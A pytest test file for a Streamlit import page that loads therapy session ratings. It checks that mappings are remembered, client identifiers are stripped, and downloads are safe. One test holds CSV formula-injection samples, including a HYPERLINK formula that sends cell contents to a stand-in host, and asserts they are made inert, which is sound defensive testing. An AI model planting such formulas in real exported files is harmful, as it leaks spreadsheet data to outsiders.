"""The Import page as a therapist uses it: hand mappings remembered, identifiers kept out, safe downloads."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from _import_page import import_page, map_by_hand, metrics, page_text, widget
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture
def page(monkeypatch, tmp_path):
    """The Import page of app.py on a fresh store file of its own."""
    return import_page(monkeypatch, tmp_path / "store.duckdb")


@pytest.fixture
def downloads(monkeypatch) -> list[bytes]:
    """The bytes of every download the page offers, in order (captured where Streamlit stores them)."""
    captured: list[bytes] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def capture(self, path_or_data, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        if isinstance(path_or_data, bytes):
            captured.append(path_or_data)
        return original(self, path_or_data, *args, **kwargs)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
    return captured


def _upload(at: AppTest, name: str, text: str) -> AppTest:
    at.file_uploader(key="upload").upload(name, text.encode("utf-8"), "text/csv").run()
    assert not at.exception, at.exception
    return at


def _import(at: AppTest) -> AppTest:
    at.button(key="do_import").click().run()
    assert not at.exception, at.exception
    return at


def _store_text() -> str:
    """Every row of every table in the store, as text (read through the page's own connection)."""
    from views._shared import get_connection

    con = get_connection()
    tables = [r[0] for r in con.execute("select table_name from information_schema.tables").fetchall()]
    return "\n".join(repr(con.execute(f'select * from "{t}"').fetchall()) for t in tables)


def _saved_mappings() -> list[dict]:
    from views._shared import get_connection

    return [json.loads(m) for (m,) in get_connection().execute("select mapping from mappings").fetchall()]


ODD = "Kennung,Tag,Punkte,Extra\nX1,05.01.2026,20,11\nX1,12.01.2026,22.5,12\n"
ODD_NEXT = "Kennung,Tag,Punkte,Extra\nX2,19.01.2026,30,13\nX2,26.01.2026,31,14\n"


def test_a_hand_mapping_is_applied_to_next_months_file_and_the_page_says_so(page):
    at = _upload(page, "march.csv", ODD)
    map_by_hand(at, "Kennung", "Tag", "ORS", "Punkte")
    _import(at)
    assert metrics(at)["Imported"] == "2"
    _upload(at, "april.csv", ODD_NEXT)
    assert not at.warning
    assert any("mapping saved for files with these columns was applied" in str(c.value) for c in at.caption)
    assert (widget(at, "__m0_measure").value, widget(at, "__m0_total").value) == ("ORS", "Punkte")
    _import(at)
    assert metrics(at) == {"Rows read": "2", "Imported": "2", "Duplicate": "0", "Rejected": "0"}


def test_a_changed_mapping_is_used_for_that_file_and_saved_for_the_next(page):
    at = _upload(page, "march.csv", ODD)
    map_by_hand(at, "Kennung", "Tag", "ORS", "Punkte")
    _import(at)
    _upload(at, "april.csv", ODD_NEXT)
    widget(at, "__m0_measure").select("CORS").run()
    widget(at, "__m0_total").select("Extra").run()
    _import(at)
    from views._shared import get_connection

    stored = get_connection().execute("select measure, total from ratings where client_id = 'X2'").fetchall()
    assert sorted(stored) == [("CORS", 13.0), ("CORS", 14.0)]
    assert [m["measures"][0]["measure"] for m in _saved_mappings()] == ["CORS"]
    _upload(at, "may.csv", "Kennung,Tag,Punkte,Extra\nX3,02.02.2026,25,15\n")
    assert (widget(at, "__m0_measure").value, widget(at, "__m0_total").value) == ("CORS", "Extra")


def _rejected_download(at: AppTest, downloads: list[bytes]) -> list[dict[str, str]]:
    assert [b.proto.label for b in at.get("download_button")][0] == "Download rejected rows (CSV)"
    rejected = [d for d in downloads if d.startswith(b"file,import_id,row")]
    assert rejected, "the rejected-rows CSV was offered"
    return list(csv.DictReader(io.StringIO(rejected[-1].decode("utf-8"))))


def test_the_rejected_rows_download_lists_every_row_and_runs_no_formula_in_a_spreadsheet(page, downloads):
    values = ['=HYPERLINK("http://x.example/?"&A1;"open")', "+1+2", "-3+4", "@SUM(1;2)", "55", "-5"]
    text = "client_id,session_date,session_number,measure,total\nC1,2026-01-05,1,ORS,20\n" + "".join(
        f'C1,2026-01-{12 + i:02d},{i + 2},ORS,"{v.replace(chr(34), chr(34) * 2)}"\n'
        for i, v in enumerate(values)
    )
    at = _import(_upload(page, "formulas.csv", text))
    assert metrics(at) == {"Rows read": "7", "Imported": "1", "Duplicate": "0", "Rejected": "6"}
    rows = _rejected_download(at, downloads)
    assert [r["row"] for r in rows] == ["2", "3", "4", "5", "6", "7"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+", value), row
    assert [r["value"].lstrip("'") for r in rows] == values  # the value is kept, only made inert
    assert rows[-1]["value"] == "-5"  # a signed number is not a formula: shown as the file held it


NOTES_AND_NAMES = (
    "Client ID,Client Name,Therapist,Session Date,Session,ORS,SRS,Notes\n"
    "C1,Hannah Whitfield,T1,2026-03-11,1,29.7,38.3,write to hannah.w@example.org\n"
    "C1,Hannah Whitfield,T1,2026-03-18,2,not zed.q@example.net,38.3,\n"
    "C2,Marcus Hartmann,T1,2026-03-11,1,55,38.3,\n"
)
IDENTIFYING = ("Hannah", "Whitfield", "Marcus", "Hartmann", "hannah.w", "zed.q", "example.org", "example.net")


def test_dropping_identifier_columns_keeps_every_identifying_value_out_of_page_store_and_downloads(
    page, downloads
):
    at = _upload(page, "clients.csv", NOTES_AND_NAMES)
    refusal = str(at.error[0].value)
    assert "**Client Name**" in refusal and "**Notes**" in refusal
    assert at.button(key="do_import").disabled
    at.checkbox(key="drop_identifiers").check().run()
    _import(at)
    assert metrics(at) == {"Rows read": "3", "Imported": "3", "Duplicate": "0", "Rejected": "0"}
    report = json.dumps(at.session_state["import_last_report"])
    rejected = _rejected_download(at, downloads)
    assert {r["row"] for r in rejected} == {"2", "3"}
    seen = {
        "page": page_text(at, choices=True),
        "store": _store_text(),
        "report": report,
        "download": "\n".join(d.decode("utf-8", "replace") for d in downloads),
    }
    for where, text in seen.items():
        for value in IDENTIFYING:
            assert value not in text, (where, value)


EMAIL_HEADER = (
    "client_id,session_date,session_number,measure,total,anna.berg@example.org\n"
    "C1,2026-01-05,1,ORS,20,x\n"
    "C1,2026-01-12,2,ORS,22,y\n"
)


def test_a_header_that_is_an_email_address_is_refused_and_never_shown_or_stored(page, downloads):
    at = _upload(page, "mail_header.csv", EMAIL_HEADER)
    assert at.button(key="do_import").disabled, "a column headed by an e-mail address is an identifier"
    assert "anna.berg" not in page_text(at, choices=True)
    at.checkbox(key="drop_identifiers").check().run()
    _import(at)
    assert metrics(at)["Imported"] == "2"
    for where, text in {
        "page": page_text(at, choices=True),
        "store": _store_text(),
        "report": json.dumps(at.session_state["import_last_report"]),
    }.items():
        assert "anna.berg" not in text, where


def test_a_client_code_column_holding_email_addresses_is_refused_naming_that_column(page):
    text = "client_id,session_date,session_number,measure,total\nmia.k@example.org,2026-01-05,1,ORS,20\n"
    at = _upload(page, "codes.csv", text)
    assert "**client_id**" in str(at.error[0].value)
    at.checkbox(key="drop_identifiers").check().run()
    _import(at)
    messages = " ".join(str(e.value) for e in at.error)
    assert "the client code column client_id holds identifiers" in messages
    assert "mia.k" not in page_text(at, choices=True) and "mia.k" not in _store_text()


def test_a_file_without_a_chosen_client_code_column_says_to_choose_one_instead_of_importing(page):
    at = _upload(page, "notes.txt", "hello world\n")
    assert any("Choose the client code column for notes.txt" in str(w.value) for w in at.warning)
    assert at.button(key="do_import").disabled
    assert not any("JSON" in str(e.value) for e in at.error)


def test_a_failed_import_does_not_leave_the_previous_files_figures_as_the_last_import(page):
    at = _upload(page, "odd.csv", ODD)
    map_by_hand(at, "Kennung", "Tag", "ORS", "Punkte")
    at = _import(at)
    assert metrics(at)["Imported"] == "2"
    assert any(s.value == "Last import" for s in at.subheader)
    # next: a file whose client codes are chosen but no measure column: the import itself fails
    at = _upload(at, "next.csv", "Kennung,Tag,Irgendwas\nX3,05.01.2026,7\n")
    widget(at, "__client_id").select("Kennung").run()
    at = _import(at)
    assert at.error, "the failed import says why"
    assert not any(s.value == "Last import" for s in at.subheader)
    assert "Imported" not in metrics(at)
